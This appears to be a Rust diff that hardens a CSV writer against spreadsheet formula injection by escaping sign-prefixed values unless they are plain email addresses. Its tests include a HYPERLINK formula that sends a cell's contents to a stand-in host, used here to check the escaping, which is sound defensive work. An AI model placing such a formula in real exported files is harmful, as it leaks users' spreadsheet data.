@@ -8,9 +8,17 @@ pub(crate) fn row(values: &[&str]) -> String {
 }
 
 fn escaped(value: &str) -> String {
-    let is_formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']) && !value.contains('@');
+    let is_formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_address(value);
     let value = if is_formula { format!("'{value}") } else { value.to_owned() };
     if value.contains(['"', ',', '\r', '\n']) { format!("\"{}\"", value.replace('"', "\"\"")) } else { value }
+}
+
+/// An address that may begin with a sign, and has nothing in it that a spreadsheet could calculate.
+fn is_plain_address(value: &str) -> bool {
+    let plain = |text: &str| text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+-._".contains(&byte));
+    value.split_once('@').is_some_and(|(local, domain)| {
+        plain(local) && plain(domain) && domain.contains('.') && !domain.starts_with(['+', '-', '.'])
+    })
 }
 
 /// The values of a line; quotes that do not close end with it.
@@ -43,6 +51,12 @@ mod tests {
         let written = row(&["a@b.example", "said \"no\", twice", "=1+1"]);
         assert_eq!(written, "a@b.example,\"said \"\"no\"\", twice\",'=1+1\r\n");
         assert_eq!(values(written.trim_end()), ["a@b.example", "said \"no\", twice", "'=1+1"]);
+        let formulas =
+            row(&["=HYPERLINK(\"//x/?\"&A1,\"a@b.c\")", "-2+3", "+a-b@c.example", "@SUM(A1)", "+1@x"]);
+        assert_eq!(
+            formulas,
+            "\"'=HYPERLINK(\"\"//x/?\"\"&A1,\"\"a@b.c\"\")\",'-2+3,+a-b@c.example,'@SUM(A1),'+1@x\r\n"
+        );
         assert_eq!(values(" a@b.example ;x\ty"), ["a@b.example", "x", "y"]);
         assert_eq!(values("\"open,line"), ["open,line"]);
     }
